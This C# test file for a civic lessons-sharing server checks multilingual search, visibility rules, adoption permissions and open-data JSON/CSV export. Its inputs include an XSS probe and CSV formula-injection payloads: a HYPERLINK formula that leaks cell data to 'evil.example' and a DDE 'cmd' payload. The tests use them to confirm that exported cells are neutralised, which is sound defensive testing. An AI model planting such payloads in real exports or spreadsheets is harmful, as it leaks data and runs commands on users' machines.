namespace Climaborough.Server.Tests.Discussions;

using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using Climaborough.Contracts;

/// <summary>The lessons library: publishing from a lab, search in English and Bulgarian, visibility, adoption and open data.</summary>
[Collection("discussions")]
public sealed class LessonsTests(DiscussionNode lab)
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    private static LessonRequest Lesson(string title, string context, LessonVisibility visibility = LessonVisibility.Public, LessonKind kind = LessonKind.Lesson, string[]? tags = null, string? board = null) =>
        new(title, kind, context, "We tried door-to-door visits.", "Participation doubled in three months.", "Start with the schools.", string.Empty, tags ?? ["waste"], board, visibility);

    private async Task<LessonView> PublishAsync(LessonRequest request, string user = "maria")
    {
        using var http = await lab.As(user);
        using var response = await http.PostAsJsonAsync($"api/labs/{lab.LabId}/lessons", request, BoardJson.Options, Ct);
        Assert.True(response.StatusCode == HttpStatusCode.Created, await response.Content.ReadAsStringAsync(Ct));
        return (await response.Content.ReadFromJsonAsync<LessonView>(BoardJson.Options, Ct))!;
    }

    private static async Task<LessonSummary[]> SearchAsync(HttpClient http, string query) =>
        (await http.GetFromJsonAsync<LessonSummary[]>("api/lessons?" + query, BoardJson.Options, Ct))!;

    [Fact]
    public async Task Search_finds_Bulgarian_and_English_text_by_word_stem()
    {
        var bulgarian = await PublishAsync(Lesson("Разделно събиране на отпадъците в кварталите", "Жителите не знаеха къде са контейнерите за рециклиране."));
        var english = await PublishAsync(Lesson("Recycling containers near schools", "Parents walked past the containers every morning."));
        using var giulia = await lab.As("giulia");

        // "отпадъци" (waste, plural) finds "отпадъците" (the waste); "контейнери" (containers) finds "контейнерите" (the containers).
        Assert.Contains(await SearchAsync(giulia, "q=" + Uri.EscapeDataString("отпадъци")), l => l.Id == bulgarian.Summary.Id);
        Assert.Contains(await SearchAsync(giulia, "q=" + Uri.EscapeDataString("контейнери рециклиране")), l => l.Id == bulgarian.Summary.Id);
        var recycled = await SearchAsync(giulia, "q=" + Uri.EscapeDataString("recycled container"));
        Assert.Contains(recycled, l => l.Id == english.Summary.Id);
        Assert.DoesNotContain(recycled, l => l.Id == bulgarian.Summary.Id);
        Assert.DoesNotContain(await SearchAsync(giulia, "q=" + Uri.EscapeDataString("отпадъци")), l => l.Id == english.Summary.Id);
    }

    [Theory]
    [InlineData("\"unclosed AND (recycling OR")]
    [InlineData("* ? ~ ^ : \\ / [ ] { } ! - + && ||")]
    [InlineData("AND")]
    [InlineData("title:recycling~2")]
    [InlineData("<script>alert(1)</script>")]
    public async Task A_search_with_operators_or_odd_characters_never_errors(string query)
    {
        using var anonymous = await lab.As("anonymous");
        using var response = await anonymous.GetAsync(new Uri("api/lessons?q=" + Uri.EscapeDataString(query), UriKind.Relative), Ct);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal(JsonValueKind.Array, (await response.Content.ReadFromJsonAsync<JsonElement>(Ct)).ValueKind);
    }

    [Fact]
    public async Task Filters_narrow_by_city_kind_and_tag_and_readers_see_only_what_they_may()
    {
        var practice = await PublishAsync(Lesson("Bulky waste days", "Streets were full of old furniture.", LessonVisibility.Network, LessonKind.GoodPractice, ["furniture", "reuse"], lab.BoardId), "ivan");
        Assert.Equal("sofia", practice.Summary.CityId);
        Assert.Equal(LabThemes.WasteToCircularity, practice.Summary.Theme);
        Assert.Equal(lab.BoardId, practice.SourceBoardId);

        using var olga = await lab.As("olga");
        Assert.Contains(await SearchAsync(olga, "city=sofia&kind=GoodPractice&tag=reuse"), l => l.Id == practice.Summary.Id);
        Assert.DoesNotContain(await SearchAsync(olga, "city=sofia&kind=Lesson"), l => l.Id == practice.Summary.Id);
        Assert.DoesNotContain(await SearchAsync(olga, "tag=energy"), l => l.Id == practice.Summary.Id);
        Assert.Empty(await SearchAsync(olga, "city=torino&tag=reuse"));

        // A network lesson is for signed-in people of partner cities: not for anonymous readers nor open data.
        using var anonymous = await lab.As("anonymous");
        Assert.DoesNotContain(await SearchAsync(anonymous, "tag=reuse"), l => l.Id == practice.Summary.Id);
        Assert.Equal(HttpStatusCode.NotFound, (await anonymous.GetAsync(new Uri($"api/lessons/{practice.Summary.Id}", UriKind.Relative), Ct)).StatusCode);
        Assert.DoesNotContain(practice.Summary.Id, await anonymous.GetStringAsync(new Uri("api/open-data/lessons.json", UriKind.Relative), Ct), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.BadRequest, (await anonymous.GetAsync(new Uri("api/lessons?kind=Rumour", UriKind.Relative), Ct)).StatusCode);
    }

    [Fact]
    public async Task Another_city_adopts_a_lesson_once_and_the_writing_city_cannot()
    {
        var lesson = await PublishAsync(Lesson("Mobile recycling yard", "Residents had no car to reach the yard."));
        var url = $"api/lessons/{lesson.Summary.Id}/adopted";
        using var giulia = await lab.As("giulia");
        Assert.True((await giulia.GetFromJsonAsync<LessonView>($"api/lessons/{lesson.Summary.Id}", BoardJson.Options, Ct))!.CanAdopt);
        (await giulia.PutAsJsonAsync(url, new AdoptRequest(true), BoardJson.Options, Ct)).EnsureSuccessStatusCode();
        using var again = await giulia.PutAsJsonAsync(url, new AdoptRequest(true), BoardJson.Options, Ct);
        var adopted = (await again.Content.ReadFromJsonAsync<LessonView>(BoardJson.Options, Ct))!;
        Assert.Equal(["torino"], adopted.Summary.AdoptedBy);
        Assert.Equal("Giulia Rossi", Assert.Single(adopted.Adoptions).ByName);

        using var olga = await lab.As("olga");
        (await olga.PutAsJsonAsync(url, new AdoptRequest(true), BoardJson.Options, Ct)).EnsureSuccessStatusCode();
        using var maria = await lab.As("maria");
        using var own = await maria.PutAsJsonAsync(url, new AdoptRequest(true), BoardJson.Options, Ct);
        Assert.Equal(HttpStatusCode.BadRequest, own.StatusCode);
        using var admin = await lab.As("admin");
        Assert.Equal(HttpStatusCode.Forbidden, (await admin.PutAsJsonAsync(url, new AdoptRequest(true), BoardJson.Options, Ct)).StatusCode);
        using var anonymous = await lab.As("anonymous");
        Assert.Equal(HttpStatusCode.Unauthorized, (await anonymous.PutAsJsonAsync(url, new AdoptRequest(true), BoardJson.Options, Ct)).StatusCode);

        var found = Assert.Single(await SearchAsync(anonymous, "q=" + Uri.EscapeDataString("mobile recycling yard")), l => l.Id == lesson.Summary.Id);
        Assert.Equal(["torino", "maribor"], found.AdoptedBy);
    }

    [Fact]
    public async Task Publishing_needs_the_member_role_in_the_lab_and_valid_fields()
    {
        using var giulia = await lab.As("giulia");
        Assert.Equal(HttpStatusCode.Forbidden, (await giulia.PostAsJsonAsync($"api/labs/{lab.LabId}/lessons", Lesson("Observer's lesson", "Context"), BoardJson.Options, Ct)).StatusCode);
        using var olga = await lab.As("olga");
        Assert.Equal(HttpStatusCode.NotFound, (await olga.PostAsJsonAsync($"api/labs/{lab.LabId}/lessons", Lesson("Outsider's lesson", "Context"), BoardJson.Options, Ct)).StatusCode);

        using var ivan = await lab.As("ivan");
        using var tooLong = await ivan.PostAsJsonAsync($"api/labs/{lab.LabId}/lessons", Lesson("Long", new string('x', LessonLimits.MaxFieldLength + 1)), BoardJson.Options, Ct);
        Assert.Equal(HttpStatusCode.BadRequest, tooLong.StatusCode);
        Assert.Contains("8000", await tooLong.Content.ReadAsStringAsync(Ct), StringComparison.Ordinal);
        using var foreignBoard = await ivan.PostAsJsonAsync($"api/labs/{lab.LabId}/lessons", Lesson("Board", "Context", board: "bnotinthislab"), BoardJson.Options, Ct);
        Assert.Equal(HttpStatusCode.BadRequest, foreignBoard.StatusCode);
        using var anonymous = await lab.As("anonymous");
        Assert.DoesNotContain(await SearchAsync(anonymous, string.Empty), l => l.Title is "Observer's lesson" or "Outsider's lesson" or "Long" or "Board");

        // The lab lists its lessons, and its feed says who published one.
        var published = await PublishAsync(Lesson("Lesson in the lab's feed", "Context of the lab"), "ivan");
        var details = (await ivan.GetFromJsonAsync<LabDetails>($"api/labs/{lab.LabId}", BoardJson.Options, Ct))!;
        Assert.Contains(details.Contents, c => c.Kind == "lesson" && c.Id == published.Summary.Id);
        Assert.Contains(details.Activity, a => a.Kind == "added-lesson" && a.ActorName == "Ivan Georgiev");
    }

    [Fact]
    public async Task Open_data_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe()
    {
        var request = Lesson("=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")", "+1+cmd|' /C calc'!A0") with
        {
            Tried = "-2+3",
            Happened = "@SUM(A1:A9)",
            Differently = "\t=1+1",
        };
        var lesson = await PublishAsync(request);
        using var anonymous = await lab.As("anonymous");
        var text = await anonymous.GetStringAsync(new Uri("api/open-data/lessons.csv", UriKind.Relative), Ct);
        var row = Assert.Single(text.Split('\n'), l => l.StartsWith(lesson.Summary.Id, StringComparison.Ordinal));

        Assert.Contains("\"'=HYPERLINK(", row, StringComparison.Ordinal);
        Assert.Contains("'+1+cmd", row, StringComparison.Ordinal);
        Assert.Contains("'-2+3", row, StringComparison.Ordinal);
        Assert.Contains("'@SUM(A1:A9)", row, StringComparison.Ordinal);
        foreach (var start in new[] { ",=", ",+", ",-", ",@", ",\t", ",\"=", ",\"+", ",\"-", ",\"@", ",\"\t" })
        {
            Assert.DoesNotContain(start, row, StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task Public_lessons_are_open_data_as_json_and_csv_and_the_index_rebuilds_from_the_stored_lessons()
    {
        var lesson = await PublishAsync(Lesson("Compost in courtyards, \"shared\"", "Line one,\nline two with a comma."));
        using var anonymous = await lab.As("anonymous");
        var json = (await anonymous.GetFromJsonAsync<OpenLesson[]>("api/open-data/lessons.json", BoardJson.Options, Ct))!;
        var open = Assert.Single(json, l => l.Id == lesson.Summary.Id);
        Assert.Equal("sofia", open.City);
        Assert.Equal("lesson", open.Kind);
        Assert.EndsWith($"/lessons/{lesson.Summary.Id}", open.Url, StringComparison.Ordinal);

        using var csv = await anonymous.GetAsync(new Uri("api/open-data/lessons.csv", UriKind.Relative), Ct);
        Assert.Equal("text/csv", csv.Content.Headers.ContentType?.MediaType);
        var text = await csv.Content.ReadAsStringAsync(Ct);
        Assert.StartsWith("Id,Url,Title,Kind,City,Theme,Tags,Context,Tried,Happened,Differently,AdoptedBy,PublishedAt", text, StringComparison.Ordinal);
        Assert.Contains("\"Compost in courtyards, \"\"shared\"\"\"", text, StringComparison.Ordinal);
        Assert.Contains("\"Line one,\nline two with a comma.\"", text.Replace("\r\n", "\n", StringComparison.Ordinal), StringComparison.Ordinal);

        using var admin = await lab.As("admin");
        using var maria = await lab.As("maria");
        Assert.Equal(HttpStatusCode.Forbidden, (await maria.PostAsync(new Uri("api/lessons/index", UriKind.Relative), null, Ct)).StatusCode);
        using var rebuilt = await admin.PostAsync(new Uri("api/lessons/index", UriKind.Relative), null, Ct);
        rebuilt.EnsureSuccessStatusCode();
        Assert.True((await rebuilt.Content.ReadFromJsonAsync<JsonElement>(Ct)).GetProperty("indexed").GetInt32() >= 1);
        Assert.Contains(await SearchAsync(anonymous, "q=courtyard"), l => l.Id == lesson.Summary.Id);
    }
}
